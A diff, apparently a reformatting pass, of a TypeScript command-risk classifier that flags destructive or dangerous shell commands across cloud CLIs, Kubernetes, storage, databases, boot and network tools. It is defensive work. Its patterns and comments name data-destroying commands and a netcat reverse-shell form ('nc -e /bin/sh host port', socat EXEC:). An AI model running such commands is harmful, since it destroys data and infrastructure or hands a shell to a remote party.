+        ? posix.relative(ctx.root, posix.resolve(ctx.cwd.startsWith("/") ? ctx.cwd : "/", path))
+        : null
+      : posix.normalize(posix.join(ctx.cwd, path));
   if (rel !== null) ctx.insideTargets.push(rel);
 }
 
@@ -567,10 +759,19 @@ function readsProgramFromStdin(name: string, args: JudgedArg[], lang: CodeLangua
     if (a === "-" || a === "/dev/stdin") return true;
     if (a === "--") return i + 1 >= args.length || lang !== "shell";
     if (lang === "shell" && a === "-s") return true;
-    if (lang === "shell" && (/^-[A-Za-z]*n[A-Za-z]*$/.test(a) || (a === "-o" && args[i + 1]?.text === "noexec"))) return false; // `bash -n`: read for syntax, never run
+    if (lang === "shell" && (/^-[A-Za-z]*n[A-Za-z]*$/.test(a) || (a === "-o" && args[i + 1]?.text === "noexec")))
+      return false; // `bash -n`: read for syntax, never run
     if (/^-[A-Za-z]*[ce]/.test(a) && lang !== "awk") return false;
     if (lang === "python" && /^-m/.test(a)) return false;
-    if (a === "-o" || a === "+o" || a === "-O" || a === "+O" || a === "--rcfile" || a === "--init-file" || (lang !== "shell" && /^-[IWXr]$/.test(a))) {
+    if (
+      a === "-o" ||
+      a === "+o" ||
+      a === "-O" ||
+      a === "+O" ||
+      a === "--rcfile" ||
+      a === "--init-file" ||
+      (lang !== "shell" && /^-[IWXr]$/.test(a))
+    ) {
       i++;
       continue;
     }
@@ -637,10 +838,23 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
     case "tofu":
     case "terragrunt":
     case "terramate":
-      if (words[0] === "destroy" || (words[0] === "apply" && has("-destroy", "--destroy")) || (words[0] === "state" && words[1] === "rm") || (words[0] === "workspace" && words[1] === "delete") || words[0] === "run-all" && words[1] === "destroy") add(ctx, "infra_teardown");
+      if (
+        words[0] === "destroy" ||
+        (words[0] === "apply" && has("-destroy", "--destroy")) ||
+        (words[0] === "state" && words[1] === "rm") ||
+        (words[0] === "workspace" && words[1] === "delete") ||
+        (words[0] === "run-all" && words[1] === "destroy")
+      )
+        add(ctx, "infra_teardown");
       return;
     case "pulumi":
-      if (words[0] === "destroy" || words[0] === "down" || (words[0] === "stack" && words[1] === "rm") || (words[0] === "state" && words[1] === "delete")) add(ctx, "infra_teardown");
+      if (
+        words[0] === "destroy" ||
+        words[0] === "down" ||
+        (words[0] === "stack" && words[1] === "rm") ||
+        (words[0] === "state" && words[1] === "delete")
+      )
+        add(ctx, "infra_teardown");
       return;
     case "cdk":
     case "cdktf":
@@ -657,7 +871,14 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
     case "azd":
     case "juju":
     case "sst":
-      if (words.some((w) => /^(?:delete|destroy|down|remove|remove-application|destroy-model|destroy-controller|kill-controller)$/.test(w))) add(ctx, "infra_teardown");
+      if (
+        words.some((w) =>
+          /^(?:delete|destroy|down|remove|remove-application|destroy-model|destroy-controller|kill-controller)$/.test(
+            w,
+          ),
+        )
+      )
+        add(ctx, "infra_teardown");
       return;
     // Oracle / IBM / Alibaba / Tencent / Scaleway / Exoscale / UpCloud / Vultr CLIs: terminating or deleting a resource.
     case "oci":
@@ -669,7 +890,14 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
     case "upctl":
     case "vultr-cli":
       // (a scheduled deletion, `schedule-secret-deletion`, `schedule-key-deletion`, is a deletion too)
-      if (words.some((w) => /^(?:delete|terminate|destroy|purge|remove|rm)$|^(?:delete|terminate|destroy|purge)-|-(?:delete|terminate|destroy|purge|deletion)$/.test(w))) add(ctx, "infra_teardown");
+      if (
+        words.some((w) =>
+          /^(?:delete|terminate|destroy|purge|remove|rm)$|^(?:delete|terminate|destroy|purge)-|-(?:delete|terminate|destroy|purge|deletion)$/.test(
+            w,
+          ),
+        )
+      )
+        add(ctx, "infra_teardown");
       return;
     case "eksctl":
       if (words[0] === "delete") add(ctx, "cluster_teardown");
@@ -685,54 +913,91 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
       const i = words.findIndex((w) => ["delete", "scale", "drain", "replace", "patch"].includes(w));
       if (i < 0) return;
       const verb = words[i]!;
-      if (verb === "scale" && all.some((a) => /^--replicas=0$/.test(a)) || (verb === "scale" && all.includes("--replicas") && all[all.indexOf("--replicas") + 1] === "0")) return add(ctx, "cluster_teardown");
+      if (
+        (verb === "scale" && all.some((a) => /^--replicas=0$/.test(a))) ||
+        (verb === "scale" && all.includes("--replicas") && all[all.indexOf("--replicas") + 1] === "0")
+      )
+        return add(ctx, "cluster_teardown");
       if (verb === "drain") return add(ctx, "cluster_teardown");
-      if (verb === "patch" && args.some((a) => /["']?replicas["']?\s*:\s*0(?!\d)/.test(a.text))) return add(ctx, "cluster_teardown");
+      if (verb === "patch" && args.some((a) => /["']?replicas["']?\s*:\s*0(?!\d)/.test(a.text)))
+        return add(ctx, "cluster_teardown");
       if (verb === "replace" && has("--force")) return add(ctx, "cluster_teardown");
       if (verb !== "delete") return;
-      if (has("--all", "-a", "--all-namespaces", "-l", "--selector") || all.includes("-a") || all.includes("-A")) return add(ctx, "kubectl_mass_delete");
+      if (has("--all", "-a", "--all-namespaces", "-l", "--selector") || all.includes("-a") || all.includes("-A"))
+        return add(ctx, "kubectl_mass_delete");
       const kind = words[i + 1] ?? "";
-      if (/^(?:namespaces?|ns|nodes?|no|crds?|customresourcedefinitions?(?:\.\S+)?)$/.test(kind)) return add(ctx, "kubectl_mass_delete");
+      if (/^(?:namespaces?|ns|nodes?|no|crds?|customresourcedefinitions?(?:\.\S+)?)$/.test(kind))
+        return add(ctx, "kubectl_mass_delete");
       if (/^(?:pods?|po|jobs?|events?|ev)(?:\/|$)/.test(kind)) return;
       return add(ctx, "cluster_teardown");
     }
     case "helm":
-      if (words[0] === "uninstall" || words[0] === "delete" || words[0] === "del" || words[0] === "un") add(ctx, "cluster_teardown");
+      if (words[0] === "uninstall" || words[0] === "delete" || words[0] === "del" || words[0] === "un")
+        add(ctx, "cluster_teardown");
       return;
     case "aws": {
       const [svc, op = ""] = words;
       if (svc === "s3" && (op === "rb" || (op === "rm" && has("--recursive")))) return add(ctx, "cloud_storage_delete");
       if (svc === "s3" && op === "sync" && has("--delete")) return add(ctx, "cloud_storage_delete");
       // A recursive move out of a bucket removes every object from it (`aws s3 mv s3://b/ s3://archive/ --recursive`).
-      if (svc === "s3" && op === "mv" && has("--recursive") && words.slice(2).some((w) => w.startsWith("s3://"))) return add(ctx, "cloud_storage_delete");
+      if (svc === "s3" && op === "mv" && has("--recursive") && words.slice(2).some((w) => w.startsWith("s3://")))
+        return add(ctx, "cloud_storage_delete");
       if (svc === "s3api" && /^delete-(?:bucket|objects)$/.test(op)) return add(ctx, "cloud_storage_delete");
       // Deleting by batch (`ecr batch-delete-image`, `dynamodb batch-write-item` with deletes aside) and scheduling a
       // deletion (`kms schedule-key-deletion`, `secretsmanager delete-secret`) destroy like a plain delete.
-      if (/^(?:(?:batch-)?delete-|terminate-|deregister-|remove-|purge-|drop-|schedule-\S*deletion|disable-key$|revoke-)/.test(op) && !/^delete-(?:tags?|message)$/.test(op)) return add(ctx, "infra_teardown");
+      if (
+        /^(?:(?:batch-)?delete-|terminate-|deregister-|remove-|purge-|drop-|schedule-\S*deletion|disable-key$|revoke-)/.test(
+          op,
+        ) &&
+        !/^delete-(?:tags?|message)$/.test(op)
+      )
+        return add(ctx, "infra_teardown");
       if (/^(?:stop-instances|stop-db-instance|stop-db-cluster|reset-db)/.test(op)) return add(ctx, "infra_teardown");
       return;
     }
     case "gsutil":
       // A wildcard object name (`gs://b/**`, `gs://b/logs/*`) removes every object it matches, like -r.
-      if (words[0] === "mv" && words[1]?.startsWith("gs://") && (hasFlag(args, "rR") || /^gs:\/\/[^/]+\/?(?:\*\*?)?$|\*/.test(words[1]))) return add(ctx, "cloud_storage_delete");
-      if (words[0] === "rb" || (words[0] === "rm" && (hasFlag(args, "rR") || words.some((w) => /^gs:\/\/[^/]+\/.*[*?]/.test(w)))) || (words[0] === "rsync" && hasFlag(args, "d"))) add(ctx, "cloud_storage_delete");
+      if (
+        words[0] === "mv" &&
+        words[1]?.startsWith("gs://") &&
+        (hasFlag(args, "rR") || /^gs:\/\/[^/]+\/?(?:\*\*?)?$|\*/.test(words[1]))
+      )
+        return add(ctx, "cloud_storage_delete");
+      if (
+        words[0] === "rb" ||
+        (words[0] === "rm" && (hasFlag(args, "rR") || words.some((w) => /^gs:\/\/[^/]+\/.*[*?]/.test(w)))) ||
+        (words[0] === "rsync" && hasFlag(args, "d"))
+      )
+        add(ctx, "cloud_storage_delete");
       return;
     case "gcloud":
-      if (words[0] === "storage" && (words[1] === "rm" && (hasFlag(args, "rR", ["--recursive"]) || words.some((w) => /^gs:\/\/[^/]+\/.*[*?]/.test(w))) || words[1] === "buckets" && words[2] === "delete")) return add(ctx, "cloud_storage_delete");
+      if (
+        words[0] === "storage" &&
+        ((words[1] === "rm" &&
+          (hasFlag(args, "rR", ["--recursive"]) || words.some((w) => /^gs:\/\/[^/]+\/.*[*?]/.test(w)))) ||
+          (words[1] === "buckets" && words[2] === "delete"))
+      )
+        return add(ctx, "cloud_storage_delete");
       if (words.includes("delete") && !words.includes("list")) return add(ctx, "infra_teardown");
       return;
     case "az":
-      if (words[0] === "storage" && words.some((w) => w === "delete-batch" || w === "delete")) return add(ctx, "cloud_storage_delete");
+      if (words[0] === "storage" && words.some((w) => w === "delete-batch" || w === "delete"))
+        return add(ctx, "cloud_storage_delete");
       if (words.includes("delete") || words.includes("purge")) return add(ctx, "infra_teardown");
       return;
     case "azcopy":
       if (words[0] === "remove" || words[0] === "rm") add(ctx, "cloud_storage_delete");
       return;
     case "rclone":
-      if (["purge", "delete", "rmdirs", "cleanup", "move"].includes(words[0] ?? "") || (words[0] === "sync" && words.some((w) => /^[^/]+:/.test(w)))) add(ctx, "cloud_storage_delete");
+      if (
+        ["purge", "delete", "rmdirs", "cleanup", "move"].includes(words[0] ?? "") ||
+        (words[0] === "sync" && words.some((w) => /^[^/]+:/.test(w)))
+      )
+        add(ctx, "cloud_storage_delete");
       return;
     case "s3cmd":
-      if (words[0] === "rb" || ((words[0] === "del" || words[0] === "rm") && hasFlag(args, "r", ["--recursive"]))) add(ctx, "cloud_storage_delete");
+      if (words[0] === "rb" || ((words[0] === "del" || words[0] === "rm") && hasFlag(args, "r", ["--recursive"])))
+        add(ctx, "cloud_storage_delete");
       return;
     case "mc":
       if (words[0] === "rb" || (words[0] === "rm" && has("--recursive", "-r"))) add(ctx, "cloud_storage_delete");
@@ -745,25 +1010,45 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
     case "heroku":
     case "vercel":
     case "netlify":
-      if (words.some((w) => /^(?:delete|destroy|rm|remove)$/.test(w) || /:destroy$/.test(w))) add(ctx, "infra_teardown");
+      if (words.some((w) => /^(?:delete|destroy|rm|remove)$/.test(w) || /:destroy$/.test(w)))
+        add(ctx, "infra_teardown");
       return;
     case "gh":
     case "glab":
     case "tea":
-      if ((words[0] === "repo" && (words[1] === "delete" || words[1] === "archive")) || (words[0] === "api" && (has("-x", "--method") && all.some((a) => a === "delete" || a === "--method=delete")))) add(ctx, "infra_teardown");
+      if (
+        (words[0] === "repo" && (words[1] === "delete" || words[1] === "archive")) ||
+        (words[0] === "api" && has("-x", "--method") && all.some((a) => a === "delete" || a === "--method=delete"))
+      )
+        add(ctx, "infra_teardown");
       return;
     case "mdadm":
-      if (args.some((a) => /^--(?:zero-superblock|stop|remove|fail|create|grow|manage)$|^-[SCGf]$/.test(a.text))) add(ctx, "volume_destroy");
+      if (args.some((a) => /^--(?:zero-superblock|stop|remove|fail|create|grow|manage)$|^-[SCGf]$/.test(a.text)))
+        add(ctx, "volume_destroy");
       return;
     case "zfs":
     case "zpool":
-      if (words[0] === "destroy" && hasFlag(args.filter((a) => !a.text.startsWith("--")), "n")) return; // -n: a dry run that lists what would go
-      if (words[0] === "destroy" || (name === "zpool" && words[0] === "labelclear") || (name === "zfs" && words[0] === "rollback" && hasFlag(args, "rR"))) add(ctx, "volume_destroy");
+      if (
+        words[0] === "destroy" &&
+        hasFlag(
+          args.filter((a) => !a.text.startsWith("--")),
+          "n",
+        )
+      )
+        return; // -n: a dry run that lists what would go
+      if (
+        words[0] === "destroy" ||
+        (name === "zpool" && words[0] === "labelclear") ||
+        (name === "zfs" && words[0] === "rollback" && hasFlag(args, "rR"))
+      )
+        add(ctx, "volume_destroy");
       // A pool made on (or grown onto) devices writes over whatever they held.
-      else if (name === "zpool" && /^(?:create|add|attach|replace|split)$/.test(words[0] ?? "")) judgeDiskInit(ctx, name);
+      else if (name === "zpool" && /^(?:create|add|attach|replace|split)$/.test(words[0] ?? ""))
+        judgeDiskInit(ctx, name);
       return;
     case "dmsetup":
-      if (/^(?:remove|remove_all|wipe_table|clear|reload|load|create|suspend|message)$/.test(words[0] ?? "")) add(ctx, "volume_destroy");
+      if (/^(?:remove|remove_all|wipe_table|clear|reload|load|create|suspend|message)$/.test(words[0] ?? ""))
+        add(ctx, "volume_destroy");
       return;
     case "pg_dropcluster":
     case "pg_dropdb":
@@ -782,12 +1067,14 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
       if (words[0] === "volume" && words[1] === "delete") add(ctx, "volume_destroy");
       return;
     case "virsh":
-      if (["destroy", "undefine", "vol-delete", "pool-delete", "pool-destroy"].includes(words[0] ?? "")) add(ctx, "volume_destroy");
+      if (["destroy", "undefine", "vol-delete", "pool-delete", "pool-destroy"].includes(words[0] ?? ""))
+        add(ctx, "volume_destroy");
       return;
     case "ctr":
     case "crictl": {
       // containerd's and CRI's own clients: removing images, containers, snapshots, pods (all of them with -a).
-      if (words.slice(0, 4).some((w) => /^(?:rm|rmi|rmp|remove|delete|del|prune)$/.test(w))) add(ctx, "container_mass_delete");
+      if (words.slice(0, 4).some((w) => /^(?:rm|rmi|rmp|remove|delete|del|prune)$/.test(w)))
+        add(ctx, "container_mass_delete");
       return;
     }
     case "nerdctl":
@@ -795,10 +1082,15 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
     case "podman": {
       const [a, b] = words;
       // A container given the host's root, a system tree or its namespaces acts on the host.
-      if ((a === "run" || a === "create" || (a === "container" && (b === "run" || b === "create"))) && hostAccess(args)) return add(ctx, "mount_change");
+      if ((a === "run" || a === "create" || (a === "container" && (b === "run" || b === "create"))) && hostAccess(args))
+        return add(ctx, "mount_change");
       if (a === "volume" && b === "create") {
         const n = args.findIndex((x) => x.text === "--name");
-        const made = n >= 0 ? args[n + 1]?.text : (args.find((x) => x.text.startsWith("--name="))?.text.slice(7) ?? operands(args.slice(2), "dol", ["--driver", "--opt", "--label"])[0]?.text);
+        const made =
+          n >= 0
+            ? args[n + 1]?.text
+            : (args.find((x) => x.text.startsWith("--name="))?.text.slice(7) ??
+              operands(args.slice(2), "dol", ["--driver", "--opt", "--label"])[0]?.text);
         if (made && ctx.created.size < 64) ctx.created.add(`${name}-volume:${made}`);
         return;
       }
@@ -809,9 +1101,15 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
       }
       if (a === "volume" && (b === "rm" || b === "prune")) return add(ctx, "container_mass_delete");
       // `system prune` without -a/--volumes removes only stopped containers and dangling images.
-      if (a === "system" && (b === "reset" || (b === "prune" && has("-a", "--all", "--volumes", "-af", "-fa")))) return add(ctx, "container_mass_delete");
-      if ((a === "compose" && words.includes("down") && has("-v", "--volumes")) || (a === "swarm" && b === "leave" && has("--force", "-f"))) return add(ctx, "container_mass_delete");
-      if ((a === "stack" && (b === "rm" || b === "remove")) || (a === "service" && b === "rm")) return add(ctx, "cluster_teardown");
+      if (a === "system" && (b === "reset" || (b === "prune" && has("-a", "--all", "--volumes", "-af", "-fa"))))
+        return add(ctx, "container_mass_delete");
+      if (
+        (a === "compose" && words.includes("down") && has("-v", "--volumes")) ||
+        (a === "swarm" && b === "leave" && has("--force", "-f"))
+      )
+        return add(ctx, "container_mass_delete");
+      if ((a === "stack" && (b === "rm" || b === "remove")) || (a === "service" && b === "rm"))
+        return add(ctx, "cluster_teardown");
       return;
     }
     case "dropdb":
@@ -826,10 +1124,19 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
     case "keydb-cli": {
       const cmd = operands(args, "hpanusc")[0]?.text ?? "";
       if (/^(?:flushall|flushdb)$/i.test(cmd)) add(ctx, "cache_flush");
-      else if (ctx.producer && producedLiteral(ctx.producer) !== null && /\bflush(?:all|db)\b/i.test(producedLiteral(ctx.producer)!)) add(ctx, "cache_flush");
+      else if (
+        ctx.producer &&
+        producedLiteral(ctx.producer) !== null &&
+        /\bflush(?:all|db)\b/i.test(producedLiteral(ctx.producer)!)
+      )
+        add(ctx, "cache_flush");
       // Keys fed in by xargs (`--scan --pattern '*' | xargs redis-cli DEL`), or deleted by a script over KEYS: wholesale.
       else if (/^(?:del|unlink)$/i.test(cmd) && ctx.viaXargs) add(ctx, "cache_flush");
-      else if (/^eval(?:sha)?$/i.test(cmd) && args.some((a) => /\b(?:del|unlink)\b/i.test(a.text) && /\b(?:keys|scan)\b/i.test(a.text))) add(ctx, "cache_flush");
+      else if (
+        /^eval(?:sha)?$/i.test(cmd) &&
+        args.some((a) => /\b(?:del|unlink)\b/i.test(a.text) && /\b(?:keys|scan)\b/i.test(a.text))
+      )
+        add(ctx, "cache_flush");
       return;
     }
     case "nc":
@@ -839,15 +1146,25 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
     case "telnet": {
       // A program run with its input and output on the connection (`nc -e /bin/sh host port`, ncat --exec /
       // --sh-exec / --lua-exec, socat …EXEC:/SYSTEM:): whoever is at the other end controls it.
-      if ((name === "nc" || name === "netcat" || name === "ncat") && args.some((a) => /^-[a-zA-Z]*[ec]$|^-[ec].|^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(a.text))) return add(ctx, "remote_code_exec");
-      if (name === "socat" && args.some((a) => /(?:^|[!,])(?:EXEC|SYSTEM):/i.test(a.text))) return add(ctx, "remote_code_exec");
+      if (
+        (name === "nc" || name === "netcat" || name === "ncat") &&
+        args.some((a) => /^-[a-zA-Z]*[ec]$|^-[ec].|^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(a.text))
+      )
+        return add(ctx, "remote_code_exec");
+      if (name === "socat" && args.some((a) => /(?:^|[!,])(?:EXEC|SYSTEM):/i.test(a.text)))
+        return add(ctx, "remote_code_exec");
       // The protocol text sent: memcached `flush_all`, redis `FLUSHALL`.
-      const sent = ctx.redirects.find((r) => r.body !== undefined)?.body ?? (ctx.producer ? producedLiteral(ctx.producer) : null);
+      const sent =
+        ctx.redirects.find((r) => r.body !== undefined)?.body ?? (ctx.producer ? producedLiteral(ctx.producer) : null);
       if (sent && /\bflush_all\b|\bflush(?:all|db)\b/i.test(sent)) add(ctx, "cache_flush");
       return;
     }
     case "etcdctl":
-      if ((words[0] === "del" || words[0] === "delete" || words[0] === "rm" || words[0] === "rmdir") && (has("--prefix", "--from-key", "--recursive") || hasFlag(args, "r"))) add(ctx, "cache_flush");
+      if (
+        (words[0] === "del" || words[0] === "delete" || words[0] === "rm" || words[0] === "rmdir") &&
+        (has("--prefix", "--from-key", "--recursive") || hasFlag(args, "r"))
+      )
+        add(ctx, "cache_flush");
       return;
     case "consul":
       if (words[0] === "kv" && words[1] === "delete" && has("-recurse")) add(ctx, "cache_flush");
@@ -858,7 +1175,8 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
       return;
     case "rabbitmqctl":
     case "rabbitmqadmin":
-      if (words.some((w) => /^(?:purge_queue|delete_queue|delete_vhost|reset|force_reset|purge|delete)$/.test(w))) add(ctx, "cache_flush");
+      if (words.some((w) => /^(?:purge_queue|delete_queue|delete_vhost|reset|force_reset|purge|delete)$/.test(w)))
+        add(ctx, "cache_flush");
       return;
     case "kafka-topics":
     case "kafka-topics.sh":
@@ -879,7 +1197,8 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
     case "multipass":
     case "limactl":
     case "colima":
-      if (words.some((w) => w === "delete" || w === "purge") || (name !== "multipass" && words[0] === "rm")) add(ctx, "infra_teardown");
+      if (words.some((w) => w === "delete" || w === "purge") || (name !== "multipass" && words[0] === "rm"))
+        add(ctx, "infra_teardown");
       return;
     case "lxc-destroy":
     case "vagrant":
@@ -888,7 +1207,11 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
       if (name === "lxc-destroy" || words[0] === "destroy") add(ctx, "infra_teardown");
       return;
     case "vault":
-      if ((words[0] === "secrets" && words[1] === "disable") || (words[0] === "kv" && (words[1] === "destroy" || (words[1] === "metadata" && words[2] === "delete")))) add(ctx, "infra_teardown");
+      if (
+        (words[0] === "secrets" && words[1] === "disable") ||
+        (words[0] === "kv" && (words[1] === "destroy" || (words[1] === "metadata" && words[2] === "delete")))
+      )
+        add(ctx, "infra_teardown");
       return;
     case "memcflush":
       add(ctx, "cache_flush");
@@ -904,29 +1227,47 @@ function hostAccess(args: JudgedArg[]): boolean {
   for (let i = 0; i < args.length; i++) {
     const a = args[i]!.text;
     if (a === "--privileged" || /^--(?:pid|ipc|userns|uts)=host$/.test(a)) return true;
-    const vol = a === "-v" || a === "--volume" || a === "--mount" ? args[i + 1]?.text : /^(?:-v|--volume=|--mount=)(.+)$/.exec(a)?.[1];
+    const vol =
+      a === "-v" || a === "--volume" || a === "--mount"
+        ? args[i + 1]?.text
+        : /^(?:-v|--volume=|--mount=)(.+)$/.exec(a)?.[1];
     if (vol === undefined) continue;
     const src = /(?:^|,)(?:source|src)=([^,]+)/.exec(vol)?.[1] ?? vol.split(":")[0]!;
-    if (/^\/+$|^\/(?:etc|usr|bin|sbin|lib\w*|boot|root|home|var|proc|sys|dev)\/*$/.test(src) || /docker\.sock$/.test(src)) return true;
+    if (
+      /^\/+$|^\/(?:etc|usr|bin|sbin|lib\w*|boot|root|home|var|proc|sys|dev)\/*$/.test(src) ||
+      /docker\.sock$/.test(src)
+    )
+      return true;
   }
   return false;
 }
 
 /** Framework commands that drop or empty the database. */
-const DB_RESET = /(?:^|\s)(?:prisma\s+(?:migrate\s+reset|db\s+push\s+.*--force-reset)|(?:rails|rake|bin\/rails)\s+db:(?:drop|reset|schema:load|purge)|(?:\S*manage\.py|django-admin)\s+(?:flush|reset_db)|sequelize(?:-cli)?\s+db:drop|knex\s+migrate:rollback\s+.*--all|alembic\s+downgrade\s+base|mix\s+ecto\.(?:drop|reset)|typeorm\s+schema:drop|artisan\s+(?:db:wipe|migrate:(?:fresh|reset)))(?:\s|$)/;
+const DB_RESET =
+  /(?:^|\s)(?:prisma\s+(?:migrate\s+reset|db\s+push\s+.*--force-reset)|(?:rails|rake|bin\/rails)\s+db:(?:drop|reset|schema:load|purge)|(?:\S*manage\.py|django-admin)\s+(?:flush|reset_db)|sequelize(?:-cli)?\s+db:drop|knex\s+migrate:rollback\s+.*--all|alembic\s+downgrade\s+base|mix\s+ecto\.(?:drop|reset)|typeorm\s+schema:drop|artisan\s+(?:db:wipe|migrate:(?:fresh|reset)))(?:\s|$)/;
 
 function judgeSystemState(ctx: JudgeContext, name: string): void {
   const args = ctx.args;
   const words = sub(args);
   switch (name) {
     case "mount":
-      if (operands(args, "otOLUTB", ["--options", "--types", "--label", "--uuid"]).length || hasFlag(args, "a", ["--all", "--bind", "--move"]) || args.some((a) => /remount/.test(a.text))) add(ctx, "mount_change");
+      if (
+        operands(args, "otOLUTB", ["--options", "--types", "--label", "--uuid"]).length ||
+        hasFlag(args, "a", ["--all", "--bind", "--move"]) ||
+        args.some((a) => /remount/.test(a.text))
+      )
+        add(ctx, "mount_change");
       return;
     case "cryptsetup": {
       // Read-only actions print; formatting or erasing a device destroys its data; opening and closing map it.
       const action = (words[0] ?? "").toLowerCase();
-      if (/^(?:status|luksdump|isluks|luksuuid|benchmark|tcryptdump|bitlkdump|fvault2dump|help)$/.test(action) || (!action && hasFlag(args, "V", ["--version", "--help"]))) return;
-      if (/^(?:luksformat|erase|lukserase|reencrypt|convert|lukskillslot|luksremovekey|repair)$/.test(action)) return add(ctx, "erase_device");
+      if (
+        /^(?:status|luksdump|isluks|luksuuid|benchmark|tcryptdump|bitlkdump|fvault2dump|help)$/.test(action) ||
+        (!action && hasFlag(args, "V", ["--version", "--help"]))
+      )
+        return;
+      if (/^(?:luksformat|erase|lukserase|reencrypt|convert|lukskillslot|luksremovekey|repair)$/.test(action))
+        return add(ctx, "erase_device");
       add(ctx, "mount_change");
       return;
     }
@@ -940,7 +1281,18 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
       if (hasFlag(args, "wE", ["--write", "--erase"])) add(ctx, "boot_config");
       return;
     case "efibootmgr":
-      if (hasFlag(args, "cBonAaN", ["--create", "--delete-bootnum", "--bootorder", "--bootnext", "--active", "--inactive", "--delete-bootorder"])) add(ctx, "boot_config");
+      if (
+        hasFlag(args, "cBonAaN", [
+          "--create",
+          "--delete-bootnum",
+          "--bootorder",
+          "--bootnext",
+          "--active",
+          "--inactive",
+          "--delete-bootorder",
+        ])
+      )
+        add(ctx, "boot_config");
       return;
     case "grub-install":
     case "grub2-install":
@@ -953,15 +1305,21 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
     case "bootctl":
     case "kernelstub":
       if ((name === "grub-mkconfig" || name === "grub2-mkconfig") && !hasFlag(args, "o", ["--output"])) return;
-      if (name === "bootctl" && !/^(?:install|update|remove|set-default|set-oneshot|random-seed)$/.test(words[0] ?? "")) return;
+      if (name === "bootctl" && !/^(?:install|update|remove|set-default|set-oneshot|random-seed)$/.test(words[0] ?? ""))
+        return;
       add(ctx, "boot_config");
       return;
     case "systemctl":
-      if (/^(?:set-default|set-environment|unset-environment|set-property|preset-all|revert)$/.test(words[0] ?? "")) add(ctx, "boot_config");
+      if (/^(?:set-default|set-environment|unset-environment|set-property|preset-all|revert)$/.test(words[0] ?? ""))
+        add(ctx, "boot_config");
       return;
     // systemd-resolved: setting a link's DNS servers, domains or resolver options (revert drops them).
     case "resolvectl":
-      if ((/^(?:dns|domain|default-route|llmnr|mdns|dnssec|dnsovertls|nta)$/.test(words[0] ?? "") && words.length >= 3) || words[0] === "revert") add(ctx, "network_change");
+      if (
+        (/^(?:dns|domain|default-route|llmnr|mdns|dnssec|dnsovertls|nta)$/.test(words[0] ?? "") && words.length >= 3) ||
+        words[0] === "revert"
+      )
+        add(ctx, "network_change");
       return;
     case "umount":
     case "swapoff":
@@ -974,8 +1332,12 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
     case "ip": {
       const obj = words[0] ?? "";
       const verb = words[1] ?? "";
-      if (/^(?:l|li|lin|link|a|ad|add|addr|address|r|ro|rou|route|n|neigh|rule|netns|tunnel|xfrm)$/.test(obj) && /^(?:set|del|delete|flush|f|fl|change|replace|add|a)$/.test(verb)) {
-        if (/^(?:a|ad|add|addr|address)$/.test(obj) && (verb === "add" || verb === "a")) return add(ctx, "network_change");
+      if (
+        /^(?:l|li|lin|link|a|ad|add|addr|address|r|ro|rou|route|n|neigh|rule|netns|tunnel|xfrm)$/.test(obj) &&
+        /^(?:set|del|delete|flush|f|fl|change|replace|add|a)$/.test(verb)
+      ) {
+        if (/^(?:a|ad|add|addr|address)$/.test(obj) && (verb === "add" || verb === "a"))
+          return add(ctx, "network_change");
         return add(ctx, "network_change");
       }
       return;
@@ -995,13 +1357,21 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
       return;
     case "ethtool":
       // -s/--change and the other setters change the link; -S (statistics), -i, -k and a bare device only read.
-      if (args.some((a) => /^-(?:s|A|C|G|K|L|E|f|r|X|N|U)$|^--(?:change|pause|coalesce|set-ring|features|offload|set-channels|change-eeprom|flash|negotiate|reset|set-rxfh-indir|rxfh|config-ntuple|config-nfc|set-eee|set-fec|set-priv-flags|set-phy-tunable|set-module)$/.test(a.text))) add(ctx, "network_change");
+      if (
+        args.some((a) =>
+          /^-(?:s|A|C|G|K|L|E|f|r|X|N|U)$|^--(?:change|pause|coalesce|set-ring|features|offload|set-channels|change-eeprom|flash|negotiate|reset|set-rxfh-indir|rxfh|config-ntuple|config-nfc|set-eee|set-fec|set-priv-flags|set-phy-tunable|set-module)$/.test(
+            a.text,
+          ),
+        )
+      )
+        add(ctx, "network_change");
       return;
     case "wg-quick":
       if (words[0] === "down" || words[0] === "up") add(ctx, "network_change");
       return;
     case "wg":
-      if (words[0] === "set" || words[0] === "setconf" || words[0] === "addconf" || words[0] === "syncconf") add(ctx, "network_change");
+      if (words[0] === "set" || words[0] === "setconf" || words[0] === "addconf" || words[0] === "syncconf")
+        add(ctx, "network_change");
       return;
     case "networkctl":
       if (/^(?:down|up|reconfigure|reload|delete|renew|forcerenew)$/.test(words[0] ?? "")) add(ctx, "network_change");
@@ -1013,19 +1383,65 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
       return;
     case "auditctl":
       // -D deletes every rule, -d/-W one, -e 0 turns auditing off; -l, -s only read.
-      if (args.some((a) => /^-[DdW]$/.test(a.text)) || args.some((a, k) => a.text === "-e" && args[k + 1]?.text === "0")) add(ctx, "kernel_change");
+      if (
+        args.some((a) => /^-[DdW]$/.test(a.text)) ||
+        args.some((a, k) => a.text === "-e" && args[k + 1]?.text === "0")
+      )
+        add(ctx, "kernel_change");
       return;
     case "nmcli": {
       // nmcli takes any prefix of its object and verb words and resolves it to the first command, in its own
       // order, that starts with it (`nmcli c m` is connection modify, `nmcli d dis` device disconnect).
       const pick = (w: string | undefined, order: string[]) => (w ? order.find((f) => f.startsWith(w)) : undefined);
       const [o, v] = words;
-      if (words.some((w) => ["down", "delete", "off", "disconnect", "modify"].includes(w))) return add(ctx, "network_change");
+      if (words.some((w) => ["down", "delete", "off", "disconnect", "modify"].includes(w)))
+        return add(ctx, "network_change");
       const obj = pick(o, ["general", "networking", "radio", "connection", "device", "agent", "monitor"]);
